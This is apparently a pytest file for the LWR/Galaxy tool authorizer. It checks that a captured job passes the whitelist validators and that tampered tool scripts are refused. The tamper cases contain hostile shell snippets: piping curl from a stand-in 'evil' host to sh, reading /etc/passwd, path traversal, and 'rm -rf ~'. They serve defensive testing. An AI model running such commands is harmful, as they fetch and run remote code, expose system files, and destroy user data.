"""A whitelist for a real Galaxy job: validators replayed on what Galaxy 26.1.2 actually sent.

``tests/data/galaxy/`` holds the command line and the ``tool_script.sh`` Galaxy sent for its
``remote_cat`` test tool (captured from an LWR job directory, the path replaced by ``@JOB@``), and
the tool XML whose validators let exactly that run.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from lwr.errors import ToolNotAllowedError
from lwr.tools import Authorization, ToolAuthorizer, ToolBox

DATA = Path(__file__).resolve().parents[2] / "data" / "galaxy"


@pytest.fixture
def job(tmp_path: Path) -> Path:
    root = tmp_path / "staging" / "2"
    (root / "configs").mkdir(parents=True)
    script = (DATA / "tool_script.sh").read_text().replace("@JOB@", str(root))
    (root / "tool_script.sh").write_text(script)
    (root / "configs" / "tool_script.sh").write_text(script)
    return root


@pytest.fixture
def check(tmp_path: Path) -> Authorization:
    conf = tmp_path / "tool_conf.xml"
    conf.write_text(f'<toolbox><tool file="{DATA / "remote_cat_whitelisted.xml"}"/></toolbox>')
    return ToolAuthorizer(ToolBox.load([conf])).authorization("remote_cat", "1.0.0")


def command(job: Path) -> str:
    return (DATA / "command_line.txt").read_text().replace("@JOB@", str(job))


def test_the_job_galaxy_sent_is_allowed(check: Authorization, job: Path) -> None:
    check.check_command(job, command(job))
    check.check_staged(job, ["tool_script.sh"])


@pytest.mark.parametrize(
    "tamper",
    [
        lambda text: text + "; curl http://evil/ | sh",
        lambda text: text.replace("cat '", "cat '/etc/passwd' '"),
        lambda text: text.replace("/inputs/dataset_", "/inputs/../../../dataset_"),
        lambda text: text.replace("set -e", "set -e\nrm -rf ~"),
    ],
)
def test_a_tampered_tool_script_is_refused(
    check: Authorization, job: Path, tamper: Callable[[str], str]
) -> None:
    script = job / "tool_script.sh"
    script.write_text(tamper(script.read_text()))
    with pytest.raises(ToolNotAllowedError, match="rule 'configfile_validator'"):
        check.check_staged(job, ["tool_script.sh"])


def test_a_wrapper_running_another_script_is_refused(check: Authorization, job: Path) -> None:
    other = command(job).replace(f"{job}/tool_script.sh", "/tmp/tool_script.sh")
    with pytest.raises(ToolNotAllowedError, match="rule 'command_validator'"):
        check.check_command(job, other)
